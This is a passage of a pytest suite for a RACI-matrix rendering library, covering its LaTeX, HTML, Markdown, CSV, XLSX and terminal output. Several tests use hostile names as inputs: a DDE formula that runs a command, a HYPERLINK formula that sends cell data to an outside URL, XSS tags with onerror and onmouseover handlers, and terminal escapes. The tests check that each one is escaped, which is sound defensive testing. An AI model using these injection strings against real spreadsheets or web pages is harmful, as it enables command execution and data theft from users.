        zh = str(render_matrix(acme, format="tex", lang="zh"))
        assert r"\cfoot{\small 第 \thepage{} 页 共 \pageref{raci-last-page} 页}" in zh

    @pytest.mark.parametrize(
        ("width", "paper"),
        [
            (15, "a4paper"),
            (25, "a4paper,landscape"),
            (38, "a3paper,landscape"),
            (99, "a0paper,landscape"),
        ],
    )
    def test_paper_fits_the_table(self, width: float, paper: str) -> None:
        from raci.render.matrix.as_tex import _paper

        assert _paper(width) == paper

    def test_compiles_with_pdflatex(self, tmp_path) -> None:
        """The UN-Habitat matrix compiles (where a TeX distribution is installed)."""
        if shutil.which("pdflatex") is None:
            pytest.skip("pdflatex is not installed")
        path = tmp_path / "m.tex"
        render_matrix(raci.load(UN_HABITAT), path)
        assert _pdflatex(path).read_bytes().startswith(b"%PDF")

    def test_printed_pages_are_numbered_with_the_header(self, tmp_path) -> None:
        """Compiled twice (for the number of pages), every page of a long matrix names
        the organization and says "Page N of TOTAL"."""
        if shutil.which("pdflatex") is None:
            pytest.skip("pdflatex is not installed")
        from pypdf import PdfReader

        rows = "".join(
            f"  - {{id: d{i}, name: Task {i}, raci: {{A: a, R: b}}}}\n" for i in range(120)
        )
        org = loads(
            "version: 1\norganization: {name: Acme Agency}\n"
            "units:\n  - {id: a, name: Alpha}\n  - {id: b, name: Beta, parent: a}\n"
            f"deliverables:\n{rows}"
        )
        path = tmp_path / "m.tex"
        render_matrix(org, path)
        pages = PdfReader(_pdflatex(path, runs=2)).pages
        assert len(pages) >= 3
        for number, page in enumerate(pages, 1):
            lines = page.extract_text().splitlines()
            assert lines[0] == "Acme Agency Responsibility matrix"
            assert lines[-1] == f"Page {number} of {len(pages)}"

    def test_long_table_and_cjk(self) -> None:
        """Over 30 rows: a longtable with repeated headers; Chinese gets CJK support."""
        rows = "".join(
            f"  - {{id: d{i}, name: 任务 {i}, raci: {{A: a, R: b}}}}\n" for i in range(31)
        )
        org = loads(
            "version: 1\nunits:\n  - {id: a, name: 甲}\n  - {id: b, name: 乙, parent: a}\n"
            + "".join(f"  - {{id: u{i}, name: U{i}, parent: a}}\n" for i in range(10))
            + "deliverables:\n"
            + rows
        )
        tex = str(
            render_matrix(org, format="tex", parties=["a", "b", *(f"u{i}" for i in range(10))])
        )
        assert r"\begin{longtable}" in tex
        assert tex.count(r"\endhead") == 1
        assert tex.count(r"\endfirsthead") == 1
        assert r"\usepackage{CJKutf8}" in tex
        assert r"\usepackage{xeCJK}" in tex
        assert r"\ifPDFTeX\begin{CJK}{UTF8}{gbsn}\fi" in tex
        assert r"\usepackage[a4paper,margin=1.5cm," in tex  # 12 columns fit A4
        assert tex.count("{") - tex.count(r"\{") == tex.count("}") - tex.count(r"\}")


class TestFiles:
    """render_matrix writes by suffix, atomically, never over its input."""

    @pytest.mark.parametrize("suffix", [".txt", ".md", ".html", ".csv", ".xlsx", ".tex"])
    def test_suffixes(self, acme: raci.Organization, tmp_path: Path, suffix: str) -> None:
        out = tmp_path / f"m{suffix}"
        data = render_matrix(acme, out)
        assert out.read_bytes() == (data if isinstance(data, bytes) else data.encode())

    @pytest.mark.parametrize("fmt", ["txt", "md", "csv", "html", "xlsx", "tex"])
    def test_empty(self, fmt: str) -> None:
        """An org sheet alone has no deliverables: every format still renders."""
        org = raci.load(DATA / "visio.csv")
        assert render_matrix(org, format=fmt)

    @pytest.mark.parametrize("width", [0, 1, 10, 80])
    def test_empty_at_any_width(self, width: int) -> None:
        org = raci.load(DATA / "visio.csv")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", MatrixWidthWarning)
            assert render_matrix(org, width=width)

    def test_bad_suffix(self, acme: raci.Organization, tmp_path: Path) -> None:
        with pytest.raises(ValueError, match=r"cannot write a matrix as '\.pdf'"):
            render_matrix(acme, tmp_path / "m.pdf")

    def test_refuses_to_overwrite_the_model(self, tmp_path: Path) -> None:
        path = tmp_path / "m.csv"
        path.write_text("Task,Ann\nplan,A/R\n")
        with pytest.raises(raci.OutputError, match="it is an input file"):
            render_matrix(raci.load(path), path)
        assert path.read_text() == "Task,Ann\nplan,A/R\n"


class TestRoundTrip:
    """Model → CSV/XLSX/Markdown → read with the org → exactly the same assignments."""

    @pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".md"])
    @pytest.mark.parametrize("model", [UN_HABITAT, ACME])
    def test_examples(self, tmp_path: Path, suffix: str, model: Path) -> None:
        org = raci.load(model)
        out = tmp_path / f"matrix{suffix}"
        render_matrix(org, out)
        back = raci.load(out, org=org)
        assert assignments(back) == assignments(org)
        if suffix != ".md":
            assert {d.id: (d.names, d.group, d.due) for d in back.deliverables.values()} == {
                d.id: (d.names, d.group, d.due) for d in org.deliverables.values()
            }

    @pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".md"])
    def test_chinese_names(self, tmp_path: Path, suffix: str) -> None:
        """Names in another language resolve too, and keep every language."""
        org = raci.load(UN_HABITAT)
        out = tmp_path / f"matrix{suffix}"
        render_matrix(org, out, lang="zh")
        if suffix != ".xlsx":
            assert "执行主任" in out.read_text(encoding="utf-8")
        back = raci.load(out, org=org)
        assert assignments(back) == assignments(org)
        assert back.deliverables["fs-2019"].names == org.deliverables["fs-2019"].names

    @pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".md"])
    def test_hostile_names(self, tmp_path: Path, suffix: str) -> None:
        """Names that start like formulas, or hold pipes and quotes, read back the same."""
        org = loads(HOSTILE)
        out = tmp_path / f"matrix{suffix}"
        render_matrix(org, out)
        back = raci.load(out, org=org)
        assert assignments(back) == assignments(org)
        assert back.deliverables["d1"].name == "=cmd|' /C calc'!A0"

    def test_without_org(self, tmp_path: Path) -> None:
        """A matrix read without an org exports and reads back the same way."""
        path = tmp_path / "m.csv"
        path.write_text("Task,Product owner,=risky,Dev team\nShip it,A,R,C/I\nPlan,R/A,,\n")
        first = raci.load(path)
        for suffix in (".csv", ".xlsx", ".md"):
            out = tmp_path / f"again{suffix}"
            render_matrix(first, out)
            assert assignments(raci.load(out)) == assignments(first)
        assert [p.name for p in first.external.values()] == ["Product owner", "=risky", "Dev team"]

    @settings(
        max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(org=organizations())
    def test_any_organization_csv(self, tmp_path: Path, org: raci.Organization) -> None:
        """Whatever the names, a CSV export reads back as the same assignments."""
        out = tmp_path / "m.csv"
        render_matrix(org, out)
        assert assignments(raci.load(out, org=org)) == assignments(org)

    @settings(
        max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(org=organizations())
    def test_any_organization_xlsx(self, tmp_path: Path, org: raci.Organization) -> None:
        """The same through a workbook."""
        out = tmp_path / "m.xlsx"
        render_matrix(org, out)
        assert assignments(raci.load(out, org=org)) == assignments(org)


#: Role letters and role names that try to break out of every format.
EVIL_LETTERS = (
    '=HYPERLINK("http://x/?"&A1,"y")',
    "+1",
    "@SUM(1)",
    "<img src=x onerror=alert(1)>",
    "|",
    "\x1b]8;;http://evil.example\x07",
    "bell\x07\x00",
)


def hostile_letters() -> raci.Organization:
    """Acme with a deliverable whose letters are not role letters, and a custom scheme whose
    role names hold terminal escapes and tags."""
    org = raci.load(ACME)
    odd = raci.Deliverable(
        "odd",
        raci.Names.plain("[80cm] *starred* row 🚀\x1b[31m"),
        assignments=tuple(
            raci.Assignment("odd", letter, party)
            for letter, party in zip(
                EVIL_LETTERS, ["ceo", "ops", "fin", "board", "ship", "clerk", "acme"], strict=True
            )
        ),
    )
    scheme = raci.Scheme(
        "Mine",
        (
            raci.Role("R", "\x1b[31mRed\x1b[0m <b>doer</b>", 1, None, "responsible"),
            raci.Role("A", 'Owner "quoted" | piped', 1, 1, "accountable"),
        ),
    )
    return attrs.evolve(org, scheme=scheme, deliverables={**org.deliverables, "odd": odd})


class TestHostileLetters:
    """Letters and role names are escaped like any other text, flagged by validate or not."""

    def test_xlsx(self) -> None:
        """No letter becomes a formula; control characters do not crash the writer."""
        data = render_matrix(hostile_letters(), format="xlsx")
        assert isinstance(data, bytes)
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for c in cells)
        values = {c.value for c in cells}
        assert {'\'=HYPERLINK("http://x/?"&A1,"y")', "'+1", "'@SUM(1)", "bell"} <= values
        assert not [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "@")]

    def test_markdown(self) -> None:
        """No raw tag, and a `|` letter does not split its cell."""
        text = str(render_matrix(hostile_letters(), format="md"))
        assert not re.search(r"(?<!\\)<", text)
        assert r"\<img src=x onerror=alert(1)\>" in text
        row = next(line for line in text.splitlines() if "80cm" in line)
        assert len(re.findall(r"(?<!\\)\|", row)) == 2 + len(
            build_matrix(hostile_letters()).columns
        )
        assert "\x1b" not in text
        assert "\x07" not in text

    def test_terminal(self) -> None:
        """No escape sequence reaches the terminal, from letters or role names."""
        text = str(render_matrix(hostile_letters(), width=300))
        assert "\x1b" not in text
        assert "\x07" not in text
        assert "\x00" not in text
        assert "\\x1b[31mRed\\x1b[0m <b>doer</b>" in text

    def test_html(self) -> None:
        """Letters and role names are text, never tags."""
        html = str(render_matrix(hostile_letters(), format="html"))
        tags = TestHtml().parse(html).tags
        assert "img" not in {t for t, _ in tags}
        assert "&lt;img src=x onerror=alert(1)&gt;" in html
        assert "&lt;b&gt;doer&lt;/b&gt;" in html
        assert "Owner &quot;quoted&quot; | piped" in html

    def test_tex(self) -> None:
        """A row starting with `[` or `*` is no argument of `\\\\`; no control characters or
        emoji in the file."""
        tex = str(render_matrix(hostile_letters(), format="tex"))
        assert r"\\[" not in tex.replace(" ", "").replace("\n", "")
        assert r"{[}80cm{]} *starred* row" in tex
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", tex)
        assert "🚀" not in tex
        starred = attrs.evolve(
            hostile_letters(),
            deliverables={
                "s": raci.Deliverable(
                    "s", raci.Names.plain("*star"), assignments=(raci.Assignment("s", "A", "ceo"),)
                )
            },
        )
        assert "\n{}*star & " in str(render_matrix(starred, format="tex"))


class TestHtmlAttributes:
    """Titles, division headings and group headings cannot open a tag or an attribute."""

    ORG = """
    version: 1
    units:
      - id: top
        name: Top
        units:
          - id: div
            name: '"><b onmouseover=alert(1)>Division'
            units:
              - {id: a, name: 'Unit "A" onmouseover="alert(2)'}
              - {id: b, name: Unit B}
          - {id: c, name: Unit C}
    groups:
      - {id: g, name: '<i onclick=alert(3)>Group</i>'}
    deliverables:
      - {id: d, name: 'Row "quoted"', group: g, raci: {A: a, R: b, C: c}}
    """

    def test_attributes(self) -> None:
        html = str(render_matrix(loads(self.ORG), format="html"))
        tags = TestHtml().parse(html).tags
        allowed = {
            "class",
            "title",
            "colspan",
            "rowspan",
            "span",
            "scope",
            "lang",
            "charset",
            "name",
            "content",
        }
        assert {k for _, attrs_ in tags for k in attrs_} <= allowed
        assert 'title="Unit &quot;A&quot; onmouseover=&quot;alert(2) (a)"' in html
        assert "&lt;i onclick=alert(3)&gt;Group&lt;/i&gt;" in html
        assert "><div>&quot;&gt;&lt;b onmouseover=alert(1)&gt;Division</div></th>" in html
        assert 'title="&quot;&gt;&lt;b onmouseover=alert(1)&gt;Division"' in html


class TestWords:
    """The matrix's fixed words in its language."""

    def test_chinese(self, acme: raci.Organization) -> None:
        md = str(render_matrix(acme, format="md", lang="zh"))
        assert md.startswith("# 责任矩阵：阿克米\n")
        assert "| 交付成果 | 首席执行官 |" in md
        assert "| 字母 | 角色 |" in md
        assert "| R | 负责 |\n| A | 批准 |\n| C | 咨询 |\n| I | 知会 |" in md
        html = str(render_matrix(acme, format="html", lang="zh"))
        assert "<title>责任矩阵：阿克米</title>" in html
        assert '<th class="corner" rowspan="3">交付成果</th>' in html
        assert "外部相关方" in html
        text = str(render_matrix(acme, lang="zh", width=200))
        assert "R 负责  A 批准  C 咨询  I 知会" in text
        assert "相关方：\n1 首席执行官" in str(render_matrix(acme, lang="zh", width=40))
        tex = str(render_matrix(acme, format="tex", lang="zh"))
        assert r"\small 交付成果" in tex
        assert r"{\small R：负责；A：批准；C：咨询；I：知会}" in tex
        assert r"{\small R: Responsible; A: Accountable;" in str(render_matrix(acme, format="tex"))
        assert r"\usepackage{CJKutf8}" in tex
        data = render_matrix(acme, format="xlsx", lang="zh")
        assert isinstance(data, bytes)
        legend = openpyxl.load_workbook(io.BytesIO(data))["Legend"]
        assert [c.value for c in legend[1]][:2] == ["字母", "角色"]

    @pytest.mark.parametrize(
        ("scheme", "names"),
        [
            ("DACI", "D 推动  A 审批  C 贡献  I 知会"),
            ("RASCI", "R 负责  A 批准  S 支持  C 咨询  I 知会"),
            ("RACI-VS", "R 负责  A 批准  C 咨询  I 知会  V 核实  S 签署"),
            ("CAIRO", "R 负责  A 批准  C 咨询  I 知会  O 不参与"),
        ],
    )
    def test_builtin_schemes(self, acme: raci.Organization, scheme: str, names: str) -> None:
        org = attrs.evolve(acme, scheme=BUILTIN_SCHEMES[scheme])
        assert names in str(render_matrix(org, lang="zh", width=300))

    def test_custom_scheme_keeps_its_names(self) -> None:
        text = str(render_matrix(hostile_letters(), lang="zh", width=300))
        assert 'Owner "quoted" | piped' in text
        assert "交付成果" in text


class TestArguments:
    """Wrong arguments are TypeError or ValueError saying what was expected, never an
    AttributeError or a file in the wrong format."""

    @pytest.mark.parametrize(
        ("keywords", "message"),
        [
            ({"parties": [1]}, "parties must be a list of ids or names"),
            ({"parties": "gsd"}, "parties must be a list of ids or names"),
            ({"groups": [None]}, "groups must be a list of ids or names"),
            ({"level": 3}, "level must be a str"),
            ({"lang": ["zh"]}, "lang must be a str"),
            ({"format": 1}, "format must be a str"),
        ],
    )
    def test_wrong_types(self, keywords: dict[str, object], message: str) -> None:
        with pytest.raises(TypeError, match=message):
            render_matrix(raci.load(UN_HABITAT), **keywords)  # type: ignore[arg-type]

    def test_a_format_the_file_name_contradicts(self, tmp_path) -> None:
        out = tmp_path / "m.csv"
        with pytest.raises(ValueError, match=r"format 'html' does not match .*m\.csv' \(csv\)"):
            render_matrix(raci.load(UN_HABITAT), out, format="html")
        assert not out.exists()

    def test_a_format_for_a_name_without_suffix(self, tmp_path) -> None:
        out = tmp_path / "matrix"
        render_matrix(raci.load(UN_HABITAT), out, format="csv")
        assert out.read_text(encoding="utf-8-sig").startswith("id,name,")


class TestWorksheetLimits:
    def test_more_parties_than_a_worksheet_has_columns(self, tmp_path) -> None:
        parties = "\n".join(f"  - {{id: p{i}}}" for i in range(16_384))
        org = raci.loads(
            f"version: 1\nexternal:\n{parties}\ndeliverables:\n"
            "  - {id: d, raci: {A: p0, R: [" + ", ".join(f"p{i}" for i in range(16_384)) + "]}}\n",
            "yaml",
        )
        out = tmp_path / "m.xlsx"
        with pytest.raises(raci.OutputError, match=r"at most 16,384 columns .* --level"):
            render_matrix(org, out)
        assert not out.exists()
        assert render_matrix(org, format="csv")
